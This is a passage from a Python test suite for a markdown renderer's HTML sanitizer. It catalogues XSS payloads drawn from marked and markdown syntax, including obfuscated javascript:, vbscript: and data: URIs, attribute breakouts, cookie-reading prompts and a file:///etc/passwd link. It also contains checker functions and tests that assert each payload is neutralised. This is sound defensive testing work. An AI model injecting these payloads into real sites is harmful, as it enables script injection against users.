    V("mdxss-unclosed-paren", "[XSS](javascript:confirm(1)"),
    V("mdxss-google-newline-prompt", "[XSS](javascript://www.google.com%0Aprompt(1))"),
    V("mdxss-onerror-confirm", "[XSS](javascript:window.onerror=confirm;throw%201)"),
    V("mdxss-domain-entity-paren", "[XSS](javascript:alert(document.domain&#41;)"),
    V("mdxss-image-javascript", "![XSS](javascript:prompt(document.cookie))\\"),
    V("mdxss-image-data-html", "![XSS](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)\\"),
    V("mdxss-image-alt-quote-breakout", "![XSS'\"`onerror=prompt(document.cookie)](x)\\"),
]

# --------------------------------------------------------------------------------------------------
# marked's test suite, its sanitizer_bypass cases (read from dillonkearns/elm-markdown's mirror of that suite,
# test-results/failing-Security.md).
# --------------------------------------------------------------------------------------------------
MARKED = [
    V("marked-sanitizer-bypass-script", "AAA<script> <img <script> src=x onerror=alert(1) />BBB"),
    V("marked-sanitizer-bypass-tag", "AAA<sometag> <img <sometag> src=x onerror=alert(1)BBB"),
    V("marked-sanitizer-bypass-generic", "<a>a2<a2t>a2</a> b <c>c</c> d\n# ![text](URL)"),
]

# --------------------------------------------------------------------------------------------------
# The techniques above (OWASP's embedded tab/newline/NUL and entity padding, PortSwigger's \x01-\x20
# prefix, mixed case, attribute break-outs) carried into markdown's own syntax: inline, autolink and
# reference links, images, titles, code spans and blocks, tables, and the text bleach linkifies.
# --------------------------------------------------------------------------------------------------
MARKDOWN_FORMS = [
    V("md-link-angle-raw-tab", "[a](<java\tscript:alert(1)>)"),
    V("md-link-entity-tab", "[a](jav&#x09;ascript:alert(1))"),
    V("md-link-entity-newline", "[a](jav&#x0A;ascript:alert(1))"),
    V("md-link-entity-cr", "[a](jav&#13;ascript:alert(1))"),
    V("md-link-entity-j-decimal", "[a](&#106;avascript:alert(1))"),
    V("md-link-entity-j-padded", "[a](&#0000106;avascript:alert(1))"),
    V("md-link-entity-j-hex-no-semicolon", "[a](&#x6Aavascript:alert(1))"),
    V("md-link-named-entity-colon", "[a](javascript&colon;alert(1))"),
    V("md-link-backslash-escaped-colon", "[a](javascript\\:alert(1))"),
    V("md-link-percent-encoded-colon", "[a](javascript%3Aalert(1))"),
    V("md-link-percent-encoded-j", "[a](%6Aavascript:alert(1))"),
    V("md-link-leading-c0-control", "[a](<\x01javascript:alert(1)>)"),
    V("md-link-leading-space-angle", "[a](< javascript:alert(1)>)"),
    V("md-link-leading-spaces", "[a](   javascript:alert(1))"),
    V("md-link-embedded-nul", "[a](java\x00script:alert(1))"),
    V("md-link-soft-hyphen", "[a](java\u00adscript:alert(1))"),
    V("md-link-leading-bom", "[a](\ufeffjavascript:alert(1))"),
    V("md-link-leading-nbsp", "[a](<\u00a0javascript:alert(1)>)"),
    V("md-link-line-separator", "[a](<javascript\u2028:alert(1)>)"),
    V("md-link-vbscript-entity", "[a](&#118;bscript:msgbox(1))"),
    V("md-link-data-entity", "[a](&#100;ata:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    V("md-link-data-svg", "[a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    V("md-link-data-png-whitelisted-by-markdown-it", "[a](data:image/png;base64,iVBORw0KGgo=)"),
    V("md-link-data-mixed-case", "[a](DaTa:text/html,%3Cscript%3Ealert(1)%3C/script%3E)"),
    V("md-link-livescript", "[a](livescript:alert(1))"),
    V("md-link-file-passwd", "[a](file:///etc/passwd)"),
    V("md-image-data-png", "![a](data:image/png;base64,iVBORw0KGgo=)"),
    V("md-image-data-svg", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    V("md-image-vbscript", "![a](vbscript:msgbox(1))"),
    V("md-image-entity-tab", "![a](jav&#x09;ascript:alert(1))"),
    V("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    V("md-autolink-data-html", "<data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>"),
    V("md-autolink-mixed-case", "<JaVaScRiPt:alert(1)>"),
    V("md-autolink-email-with-scheme", "<javascript:alert(1)@example.com>"),
    V("md-autolink-email-quote-breakout", "<user@example.com?\"onmouseover=\"alert(1)>"),
    V("md-autolink-http-quote-breakout", "<https://example.com/\"onmouseover=\"alert(1)>"),
    V("md-reference-link", "[a][x]\n\n[x]: javascript:alert(1)"),
    V("md-reference-entity", "[a][x]\n\n[x]: &#x6A;avascript:alert(1)"),
    V("md-reference-angle-with-title", "[a]\n\n[a]: <javascript:alert(1)> \"t\""),
    V("md-reference-image-data", "![a][x]\n\n[x]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    V("md-reference-title-breakout", "[a]\n\n[a]: https://example.org \"\\\" onmouseover=\\\"alert(1)\""),
    V("md-nested-brackets-js-inside", "[[a](javascript:alert(1))](https://example.org)"),
    V("md-nested-link-outer-js", "[a [b](https://example.org) c](javascript:alert(1))"),
    V("md-image-inside-js-link", "[![a](https://example.org/y.png)](javascript:alert(1))"),
    V("md-js-image-inside-link", "[![a](javascript:alert(1))](https://example.org)"),
    V("md-title-double-quote-breakout", "[a](https://example.org \"\\\" onmouseover=\\\"alert(1)\")"),
    V("md-title-single-quote-breakout", "[a](https://example.org 'x\\' onmouseover=alert(1) y=\\'')"),
    V("md-title-paren-breakout", "[a](https://example.org (\" onclick=\"alert(1)\"))"),
    V("md-title-entity-quote", "[a](https://example.org \"&quot; onmouseover=&quot;alert(1)\")"),
    V("md-title-html", "[a](https://example.org \"<script>alert(1)</script>\")"),
    V("md-href-quote-breakout", "[a](https://example.org/\"onmouseover=\"alert(1))"),
    V("md-image-alt-attribute-breakout", "![\" onerror=\"alert(1)](https://example.org/y.png)"),
    V("md-image-alt-html", "![<img src=x onerror=alert(1)>](https://example.org/y.png)"),
    V("md-image-title-breakout", "![a](https://example.org/y.png \"\\\" onload=\\\"alert(1)\")"),
    V("md-code-span-script", "`<script>alert(1)</script>`"),
    V("md-code-span-double-backtick", "``<img src=x onerror=alert(1)>``"),
    V("md-code-block-fenced-html", "```\n<img src=x onerror=alert(1)>\n```"),
    V("md-code-fence-info-breakout", "```js\" onmouseover=\"alert(1)\n1\n```"),
    V("md-code-block-indented-iframe", "    <iframe src=javascript:alert(1)>"),
    V("md-code-span-urls", "`javascript:alert(1)` and `https://example.org/\"onmouseover=alert(1)`"),
    V("md-html-block-script", "<script>\nalert(1)\n</script>"),
    V("md-html-comment-wrapped-script", "<!-- --><script>alert(1)</script><!-- -->"),
    V("md-emphasis-around-html", "*<img src=x onerror=alert(1)>*"),
    V("md-table-cell-script", "| a |\n|---|\n| <script>alert(1)</script> |"),
    V("md-table-cell-js-link", "| a |\n|:-:|\n| [x](javascript:alert(1)) |"),
    V("md-heading-svg", "# <svg onload=alert(1)>"),
    V("md-setext-heading-iframe", "<iframe srcdoc='<script>alert(1)</script>'>\n==="),
    V("md-blockquote-iframe-srcdoc", "> <iframe srcdoc='<script>alert(1)</script>'>"),
    V("md-list-item-js-anchor", "- <a href=javascript:alert(1)>x</a>"),
    V("md-escaped-entities-as-text", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    V("md-double-escaped-entities", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
    V("md-linkify-js-then-http", "visit javascript:alert(1)//http://example.com"),
    V("md-linkify-data-double-slash", "data://text/html,<script>alert(1)</script>"),
    V("md-linkify-www-quote-breakout", "www.example.com/\"onmouseover=\"alert(1)"),
    V("md-linkify-http-angle-breakout", "http://example.com/<img/src/onerror=alert(1)>"),
    V("md-linkify-email-local-script", "<script>alert(1)</script>@example.com"),
    V("md-hard-break-html", "line  \n<img src=x onerror=alert(1)>"),
    V("md-strikethrough-html", "~~<svg/onload=alert(1)>~~"),
]

ALL_VECTORS = OWASP + PORTSWIGGER + MXSS + MARKDOWN_IT + MARKDOWN_PAYLOADS + MARKED + MARKDOWN_FORMS

# The same vector is also tried inside every markdown construct a member can write.
CONTEXTS = {
    "link-text": "[{v}](https://example.org)",
    "link-destination": "[x]({v})",
    "link-destination-angle": "[x](<{v}>)",
    "link-title": '[x](https://example.org "{v}")',
    "image-alt": "![{v}](https://example.org/i.png)",
    "image-src": "![x]({v})",
    "reference-destination": "[x][r]\n\n[r]: {v}",
    "table-cell": "| h |\n|---|\n| {v} |",
    "quoted-list-item": "> - {v}",
    "heading": "# {v}",
    "emphasis": "**{v}**",
    "code-span": "`{v}`",
    "fenced-code": "```\n{v}\n```",
}


# ---------------------------------------------------------------------------------------- checks
def _normalise_url(value: str) -> str:
    """What a browser would see as the scheme: entities decoded, controls/whitespace/format chars gone."""
    value = html.unescape(value)
    kept = [
        ch for ch in value
        if not (ch.isspace() or unicodedata.category(ch) in {"Cc", "Cf", "Zs", "Zl", "Zp"})
    ]
    return "".join(kept).lower()


def _check_element(tag: str, attrs: dict[str, str], problems: list[str]) -> None:
    tag = tag.lower()
    if tag in SCRIPT_CAPABLE_TAGS:
        problems.append(f"script-capable element <{tag}>")
    if tag not in SAFE_TAGS:
        problems.append(f"element <{tag}> is not on the allow-list")
    allowed = SAFE_ATTRIBUTES.get(tag, set())
    for name, value in attrs.items():
        name = name.lower()
        value = value or ""
        if name.startswith("on"):
            problems.append(f"event handler {name}= on <{tag}>")
        if name == "style":
            problems.append(f"style attribute on <{tag}>")
        if name not in allowed:
            problems.append(f"attribute {name}= on <{tag}> is not on the allow-list")
        if name in URL_ATTRIBUTES:
            url = _normalise_url(value)
            if url.startswith(DANGEROUS_SCHEMES):
                problems.append(f"dangerous URL {name}={value!r} on <{tag}>")
            scheme = _SCHEME.match(url)
            if scheme and scheme.group(1) not in SAFE_SCHEMES:
                problems.append(f"scheme {scheme.group(1)!r} in {name}={value!r} on <{tag}>")
    if tag == "a" and (attrs.get("rel") or "").split() != LINK_REL.split():
        problems.append(f"<a> without rel={LINK_REL!r}: {attrs!r}")


def _html5lib_problems(markup: str) -> list[str]:
    problems: list[str] = []
    fragment = html5lib.parseFragment(markup, container="div", treebuilder="etree", namespaceHTMLElements=False)
    for element in fragment.iter():
        if not isinstance(element.tag, str):  # comments and processing instructions
            problems.append(f"comment or processing instruction: {element.text!r}")
            continue
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        tag = element.tag.rsplit("}", 1)[-1]  # svg/math elements come back namespaced
        attrs = {}
        for name, value in element.attrib.items():
            if isinstance(name, tuple):  # pragma: no cover - other tree builders
                name = name[1]
            local = name.replace(_XLINK_NS, "xlink:").rsplit("}", 1)[-1]
            attrs[local] = value
        _check_element(tag, attrs, problems)
    return problems


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        _check_element(tag, {name: value or "" for name, value in attrs}, self.problems)

    def handle_comment(self, data):
        self.problems.append(f"comment: {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration: {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction: {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"unknown declaration: {data!r}")


def _stdlib_problems(markup: str) -> list[str]:
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    return collector.problems


def assert_safe(source: str) -> str:
    output = render_markdown(source)
    assert isinstance(output, str)
    problems = _html5lib_problems(output) + _stdlib_problems(output)
    assert not problems, f"\nsource: {source!r}\noutput: {output!r}\nproblems: {problems}"
    return output


# ----------------------------------------------------------------------------------------- tests
def test_vectors_are_distinct_and_plentiful():
    ids = [p.id for p in ALL_VECTORS]
    payloads = [p.values[0] for p in ALL_VECTORS]
    assert len(set(ids)) == len(ids), "duplicate vector ids"
    assert len(set(payloads)) == len(payloads), "duplicate vector payloads"
    assert len(ALL_VECTORS) >= 150


@pytest.mark.parametrize("payload", ALL_VECTORS)
def test_vector_is_neutralised(payload):
    assert_safe(payload)


@pytest.mark.parametrize("payload", ALL_VECTORS)
def test_vector_is_neutralised_in_every_markdown_context(payload):
    for template in CONTEXTS.values():
        assert_safe(template.replace("{v}", payload))


@pytest.mark.parametrize(
    "markup",
    [
        pytest.param('<p><img src=x onerror="alert(1)"></p>', id="img-onerror"),
        pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="encoded-tab-scheme"),
        pytest.param('<a href="https://example.org">x</a>', id="a-without-rel"),
        pytest.param('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', id="svg-xlink"),
        pytest.param('<p style="color:red">x</p>', id="style-attribute"),
        pytest.param("<!--[if IE]><script>alert(1)</script><![endif]-->", id="conditional-comment"),
        pytest.param('<a href="\x01 DaTa:text/html,x" rel="nofollow ugc noopener noreferrer">x</a>', id="data-scheme"),
    ],
)
def test_the_checker_itself_catches_dangerous_markup(markup):
    """Guard against a checker that passes everything: each of these must be reported."""
    assert _html5lib_problems(markup) or _stdlib_problems(markup)
    assert _html5lib_problems(markup), "html5lib-based check missed it"
